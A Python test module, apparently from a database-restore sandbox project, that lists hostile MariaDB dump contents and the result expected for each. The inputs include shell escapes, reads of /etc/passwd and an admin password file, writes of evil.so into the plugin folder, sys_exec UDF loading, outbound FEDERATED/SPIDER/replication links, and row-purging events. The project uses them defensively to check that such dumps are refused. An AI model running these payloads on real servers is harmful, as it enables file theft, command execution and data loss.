"""Hostile backups of MariaDB that run, read, write and call: with the client's own commands, and through the server."""

from __future__ import annotations

from typing import Final

from hostile.cases import Case, Making, Rows, on_both
from hostile.escapes import Canaries

from restore_lab.findings import Code

MY: Final = Rows(engine="mariadb", prefix="mariadb-")
QUICK: Final = 'engine = { kind = "mariadb", load_timeout_seconds = 8 }'
_NAMED: Final = """
SET @told = COALESCE(LOAD_FILE('@FOLDER@/secret'), 'none');
EXECUTE IMMEDIATE CONCAT('CREATE TABLE `', REPLACE(@told, '\\n', ''), '` (id INT)');
"""

#: Commands of the client; its sandbox refuses them all.
_CLIENT: Final = (
    *on_both(
        MY.failed(
            "shell",
            r"`system`, `\!` in a dump without a sandbox of its own",
            "system @SH@;\n\\! @SH@\nsystem @SH@",
            Code.LOAD_ERRORS,
        )
    ),
    MY.failed(
        "source",
        r"`source`, `\.`: files of the host read as SQL",
        "source @FOLDER@/read.sql;\n\\. @FOLDER@/read.sql\n\\. /etc/passwd",
        Code.LOAD_ERRORS,
    ),
    MY.failed(
        "tee",
        r"`tee`, `\T` into a file of the host",
        "tee @FOLDER@/@TOKEN@;\n\\T @FOLDER@/@TOKEN@\nSELECT 1;\n\\t",
        Code.LOAD_ERRORS,
    ),
    MY.passes(
        "pager",
        r"`pager`, `\P` with a command",
        "pager @SH@;\n\\P @SH@\nSELECT 1;\n\\n",
        "the client takes a pager only at a terminal",
    ),
    MY.unknown("edit", r"`\e`: an editor that waits", "\\e\nSELECT 1;", Code.LOAD_TIMED_OUT, options=QUICK),
    *on_both(
        MY.failed(
            "connect",
            r"`connect`, `\r` to a server on the network",
            "connect cabinet @ADDRESS@;\n\\r cabinet @ADDRESS@\nSELECT 1;",
            Code.LOAD_ERRORS,
            Code.LOAD_STOPPED,
        )
    ),
    MY.failed(
        "delimiter",
        "a command of the client under another delimiter",
        "DELIMITER $$\nSELECT 1$$\n\\! @SH@\nSELECT 2",
        Code.LOAD_ERRORS,
    ),
    MY.failed(
        "ours-read",
        "our password read, an order given to our own client, by commands",
        "\\! cat /machine/restore_lab_admin\n\\! echo x >/machine/orders",
        Code.LOAD_ERRORS,
    ),
    MY.failed("exit", r"`\q` in the middle", "\\q\nDROP TABLE patient;", Code.LOAD_STOPPED),
)


def _silenced(first: bytes, last: bytes = b"") -> Making:
    """Say something before the first table and at the end, of a dump whose values no longer fit."""
    table = b"DROP TABLE IF EXISTS"

    def making(_: Canaries, whole: bytes) -> bytes:
        cut = whole.replace(b"`motif` varchar(120)", b"`motif` varchar(10)")
        assert cut != whole
        return cut.replace(table, first + table, 1) + last

    return making


#: Who silences warnings hides that values are cut.
_SILENT: Final = tuple(
    MY.unknown(name, f"values cut, and {how} before them", "", Code.WARNINGS_SILENCED, making=making)
    for name, how, making in (
        ("silent-server", "`SET max_error_count=0`", _silenced(b"SET max_error_count=0;\n")),
        (
            "silent-in-pieces",
            "`SET max_error_count=0` put together from pieces",
            _silenced(b"EXECUTE IMMEDIATE CONCAT('SET max_', 'error_count=0');\n"),
        ),
        ("silent-client", r"`\w` within a line", _silenced(b"SELECT 1 \\w;\n")),
        (
            "silent-for-a-while",
            "`nowarning`, taken back at the end,",
            _silenced(b"nowarning\nSELECT 1;\n", b"\nwarnings\n"),
        ),
    )
)
#: What the server reads, writes, loads and calls.
_SERVER: Final = (
    *on_both(
        MY.failed(
            "load-local",
            "`LOAD DATA LOCAL INFILE`, allowed by the dump itself",
            """
SET GLOBAL local_infile = 1;
LOAD DATA LOCAL INFILE '@FOLDER@/secret' INTO TABLE parametre;
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE parametre;
""",
            Code.LOAD_ERRORS,
        )
    ),
    MY.failed(
        "load-infile",
        "`LOAD DATA INFILE` from the host",
        """
LOAD DATA INFILE '@FOLDER@/secret' INTO TABLE parametre;
LOAD DATA INFILE '/etc/passwd' INTO TABLE parametre;
""",
        Code.LOAD_ERRORS,
    ),
    *on_both(
        MY.failed(
            "outfile",
            "`INTO OUTFILE`, `INTO DUMPFILE` on the host and into the folder of plugins",
            """
SELECT 'x' INTO OUTFILE '@FOLDER@/@TOKEN@';
SELECT 'x' INTO DUMPFILE '/tmp/@TOKEN@';
SELECT 'x' INTO OUTFILE '/dev/shm/@TOKEN@';
SELECT 'x' INTO DUMPFILE '/usr/lib/mysql/plugin/evil.so';
""",
            Code.LOAD_ERRORS,
        )
    ),
    MY.passes(
        "load-file",
        "`LOAD_FILE`: a secret of the host as the name of a table",
        _NAMED,
        "the file is not there for the server; the answer is NULL",
    ),
    MY.failed(
        "library-function",
        "`CREATE FUNCTION ... SONAME`: libraries as functions",
        """
CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so';
CREATE FUNCTION sys_exec RETURNS INT SONAME '../../../../lib/x86_64-linux-gnu/libc.so.6';
SELECT sys_exec('@SH@');
""",
        Code.LOAD_ERRORS,
    ),
    MY.failed(
        "plugin",
        "`INSTALL PLUGIN`, `INSTALL SONAME` of libraries of its own",
        "INSTALL PLUGIN evil SONAME '/tmp/evil.so';\nINSTALL SONAME 'evil';",
        Code.LOAD_ERRORS,
    ),
    MY.passes(
        "audit-log",
        "a plugin that is there, made to write its log on the host",
        """
INSTALL SONAME 'server_audit';
SET GLOBAL server_audit_file_path = '@FOLDER@/@TOKEN@';
SET GLOBAL server_audit_logging = ON;
SELECT 1;
""",
        "the folder is not there for the server",
    ),
    MY.failed(
        "general-log",
        "`general_log_file`, `slow_query_log_file` on the host",
        """
SET GLOBAL general_log_file = '@FOLDER@/@TOKEN@';
SET GLOBAL general_log = 1;
SET GLOBAL slow_query_log_file = '@FOLDER@/@TOKEN@';
SET GLOBAL slow_query_log = 1;
SELECT 1;
""",
        Code.LOAD_ERRORS,
    ),
    MY.passes(
        "events",
        "events that purge rows every second, once the scheduler runs",
        "CREATE EVENT purges ON SCHEDULE EVERY 1 SECOND DO DELETE FROM restored.courrier;",
        "the scheduler is off",
    ),
    MY.failed(
        "events-on",
        "events that purge rows every second, and the scheduler switched on",
        """
CREATE EVENT purges ON SCHEDULE EVERY 1 SECOND DO DELETE FROM restored.courrier;
SET GLOBAL event_scheduler = ON;
SELECT SLEEP(3);
""",
        Code.TABLE_EMPTY,
    ),
    MY.failed(
        "federated",
        "`FEDERATED`: a table on another server",
        """
INSTALL SONAME 'ha_federatedx';
CREATE TABLE away (id INT) ENGINE=FEDERATED CONNECTION='mysql://x@@ADDRESS@:@PORT@/x/away';
SELECT * FROM away;
""",
        Code.LOAD_ERRORS,
    ),
    MY.failed(
        "connect-engine",
        "`CONNECT`: a table that is a file of the host",
        """
INSTALL SONAME 'ha_connect';
CREATE TABLE away (line TEXT) ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='@FOLDER@/secret';
""",
        Code.LOAD_ERRORS,
        Code.EXTENSION_ABSENT,
    ),
    MY.failed(
        "spider",
        "`SPIDER`: a table on another server",
        """
INSTALL SONAME 'ha_spider';
CREATE TABLE away (id INT) ENGINE=SPIDER COMMENT='wrapper "mysql", host "@ADDRESS@", port "@PORT@"';
""",
        Code.LOAD_ERRORS,
        Code.EXTENSION_ABSENT,
    ),
    *on_both(
        MY.passes(
            "replica",
            "`CHANGE MASTER TO`, `START SLAVE`: calls out for as long as the server runs",
            """
CHANGE MASTER TO MASTER_HOST='@ADDRESS@', MASTER_PORT=@PORT@, MASTER_USER='x', MASTER_PASSWORD='x',
MASTER_CONNECT_RETRY=1;
START SLAVE;
SELECT SLEEP(3);
""",
            "there is no network; every row is there",
        )
    ),
)
CASES: Final[tuple[Case, ...]] = (*_CLIENT, *_SILENT, *_SERVER)
